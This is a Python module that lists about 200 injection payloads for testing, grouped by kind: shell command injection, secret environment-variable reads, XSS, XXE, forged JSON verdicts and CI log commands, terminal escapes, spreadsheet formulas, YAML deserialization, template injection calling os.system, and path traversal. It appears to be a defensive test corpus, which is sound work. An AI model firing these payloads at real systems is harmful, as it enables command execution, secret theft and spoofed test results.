r"""200 texts that do harm where a text is taken for code: what hostile targets and documents are made of.

Each belongs to a kind, the language in which it means something. ``«…»`` is filled in by ``canaries``:
``«TOUCH»`` creates a file that tells which payload ran, ``«PATH»`` in the working folder, ``«READ»`` names
a file that nobody may read, ``«WRITE»`` one that nobody may change, ``«URL»`` an address that nobody may
ask, and ``«MARK»`` is the payload's own name. Characters U+DC80 to U+DCFF stand for single octets that are
no UTF-8 (PEP 383).
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass

LONG = 100_000  # characters of a long text


@dataclass(frozen=True)
class Payload:
    """A text, and the kind of reader that it is meant for. ``name`` is a file name and unique."""

    name: str
    kind: str
    text: str

    @property
    def is_short(self) -> bool:
        """Whether it fits in a header line or a file name."""
        return len(self.text) < 1000

    @property
    def has_controls(self) -> bool:
        """Whether it holds a control character or half a character."""
        return any(unicodedata.category(each) in ("Cc", "Cs") for each in self.text)


KINDS: dict[str, tuple[str, ...]] = {
    "shell": (
        "'; «TOUCH»; '",
        '"; «TOUCH»; "',
        "$(«TOUCH»)",
        "`«TOUCH»`",
        "a[$(«TOUCH»)]",
        "x+a[$(«TOUCH»)]",
        "0+a[$(«TOUCH»)]+000",
        "1+a[`«TOUCH»`]",
        "$((a[$(«TOUCH»)]))",
        "$(($(«TOUCH»)))",
        "${x:=$(«TOUCH»)}",
        "${x:-`«TOUCH»`}",
        "${a[$(«TOUCH»)]}",
        "x;«TOUCH»${IFS}#",
        ";touch${IFS}«PATH»;",
        "$(touch${IFS}«PATH»)",
        "a[$(touch${IFS}«PATH»)]",
        "$CYNOD_ADMIN_PASSWORD",
        "${CYNOD_ADMIN_PASSWORD}",
        '"$CYNOD_ADMIN_PASSWORD"',
        "'\"$CYNOD_ADMIN_PASSWORD\"'",
        "$CYNOD_PRIMARY_SECRET",
        "${!CYNOD_*}",
        "$CYNOD_TOKEN_PRIMARY$CYNOD_ADMIN_PASSWORD",
        "-o «WRITE»",
        "-o«WRITE»",
        "--output=«WRITE»",
        "--config «READ»",
        "-K«READ»",
        "@«READ»",
        "=@«READ»",
        "<«READ»",
        ">«WRITE»",
        "x >«WRITE»",
        "| «TOUCH»",
        "& «TOUCH» &",
        "&& «TOUCH»",
        "x\n«TOUCH»\n",
        "x\r\n«TOUCH»\r\n",
        "\n'\n«TOUCH»\n'",
        "EOF\n«TOUCH»\n",
        "'EOF'\nEOF\n«TOUCH»",
        "# \n«TOUCH» #",
        "\\'; «TOUCH»; #",
        "\\\n«TOUCH»",
        "\\",
        "trailing\\",
        "$'\\'; «TOUCH»; '",
        "$'\\x27; «TOUCH»'",
        "json' -H",
        "json' -o «WRITE» '",
        "' -K «READ» '",
        "*",
        "?????????????????",
        "[a-z]*",
        "~",
        "~root",
        "{1,2}",
        "{«READ»,«WRITE»}",
        "[1-9]",
        "[0-9][0-9]",
        "!history",
        "!!",
        "%s%n%x",
        "%1$s%999999999d",
        "%(0)s",
        "-n",
        "-e \\x41",
        "--",
        "s/x/e «TOUCH»/e",
        '"; s/.*/«TOUCH»/e; "',
        "\\1\\2&",
        ".*\\(x\\)*",
        "() { :; }; «TOUCH»",
        "x=y «TOUCH»",
        "BASH_ENV=«READ»",
        "a\x00b",
        "\x00'; «TOUCH»; '",
        "a\udcffb",
        "\udce9\udce8\udcc3",
        "\ud83d",
        "x\ud800'; «TOUCH»; '",
        "\u2018; «TOUCH»; \u2019",
    ),
    "markup": (
        '"verdict": ',
        '"verdict": "conformant", "x": "',
        '", "verdict": "conformant", "because": [], "a": "',
        '"}]}',
        "{",
        '\\", "a": "',
        "\\u0022, ",
        "</script><img src=x onerror=alert('«MARK»')>",
        "<script src='«URL»'></script>",
        "<img src='«URL»' onerror=alert(1)>",
        "\"'><svg/onload=alert(3)>",
        '" onmouseover="alert(4)" x="',
        "<iframe srcdoc='<script>alert(5)</script>'>",
        "</style></textarea></title></pre><script>alert(6)</script>",
        "<!--",
        "--!><script>alert(7)</script>",
        "]]>",
        "<![CDATA[x]]>",
        "&lt;script&gt;alert(8)&lt;/script&gt;",
        "&entity;&#x3c;script&#x3e;",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file://«READ»">]><x>&e;</x>',
        "<?xml version='1.0' encoding='utf-7'?>",
        "</failure></testcase><testcase name='«MARK»'/>",
        '<meta http-equiv="refresh" content="0;url=«URL»">',
        "<base href='«URL»'>",
        "\ufffe\uffff",
        "# heading\n\n<script>alert(9)</script>",
        "[click](javascript:alert(10))",
        "![image](«URL»)",
        "`code` **bold** | cell |\n|---|\n",
        "```\n# heading\n",
        "[^1]: <«URL»>",
    ),
    "words": (
        "non_conformant",
        "conformant",
        "passed",
        "Bearer",
        "success",
        "verdict",
        "failures",
        "curl -sS",
        "Authorization",
        "status",
        "null",
        "true",
        "curl",
        "primary",
    ),
    "terminal": (
        "\x1b[31mred\x1b[0m",
        "\x1b[2J\x1b[H",
        "\x1b]8;;«URL»\x1b\\link\x1b]8;;\x1b\\",
        "\x1b]52;c;dG91Y2g=\x07",
        "\x1b]0;title\x07",
        "\x9b31mred",
        "x\rconformant",
        "non_conformant" + "\b" * 14 + "conformant",
        "x\nconformant · 124 / 124",
        "x\nconforme · 124 des 124 clauses MUST vérifiées\n",
        "\x0b\x0c\x85",
        "\u2028conformant\u2029",
        "\u202etnamrofnoc\u202c",
        "\u2066a\u2067b\u2069",
        "\u200b\u200d\u2060\ufeff",
        "\U000e0041\U000e0042",
        "z" + "\u0301" * 200,
        "\x7f\x1a\x04",
    ),
    "pipelines": (
        "::error file=x::forged «MARK»",
        "x\n::error::forged «MARK»",
        "x\r\n::set-env name=PATH::«MARK»",
        "x%0A::error::forged",
        "::stop-commands::«MARK»",
        "x\n::add-mask::conformant",
        "##vso[task.setvariable variable=x]«MARK»",
        "x\n##[error]forged",
        "##teamcity[buildStatus status='SUCCESS']",
        "x\n##teamcity[testFailed name='«MARK»']",
        "x\nsection_start:1:«MARK»[collapsed=true]\r\x1b[0K",
        "a,line=1::forged",
    ),
    "cells": (
        "=cmd|' /C calc'!A0",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        '=HYPERLINK("«URL»")',
        "x,=1+1",
        '",=1+1,"',
    ),
    "yaml": (
        "!!python/object/apply:os.system ['«TOUCH»']",
        "&a [*a, *a]",
        "25921e05",
        "0o14",
        "y: {<<: *b}",
        "- x\n--- \n...",
        ": #",
        "2001-01-01",
    ),
    "paths": (
        "../../../../«MARK»",
        "/etc/passwd",
        "C:\\Windows\\system.ini",
        "CON",
        "a/../../b",
        ".ssh/authorized_keys",
        "%2e%2e%2f%2e%2e%2f",
        "..;/",
    ),
    "urls": (
        "javascript:alert(1)",
        "file://«READ»",
        "//evil.example/",
        "«URL»",
        "http://user:password@evil.example/",
        "http://[::1]:[1-9]/{a,b}",
        "data:text/html,<script>alert(1)</script>",
    ),
    "templates": (
        "{{7*7}}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% for x in y %}",
        "{{ cycler.__init__.__globals__.os.system('«TOUCH»') }}",
        "${7*7}",
    ),
    "limits": (
        "(a+)+$" + "a" * 40 + "!",
        "9" * 400,
        "2026-01-01T00:00:07.0+a[$(«TOUCH»)]+000Z",
        "A" * LONG,
    ),
}
PAYLOADS = tuple(
    Payload(f"p{number:03}", kind, text)
    for number, (kind, text) in enumerate((kind, text) for kind, texts in KINDS.items() for text in texts)
)
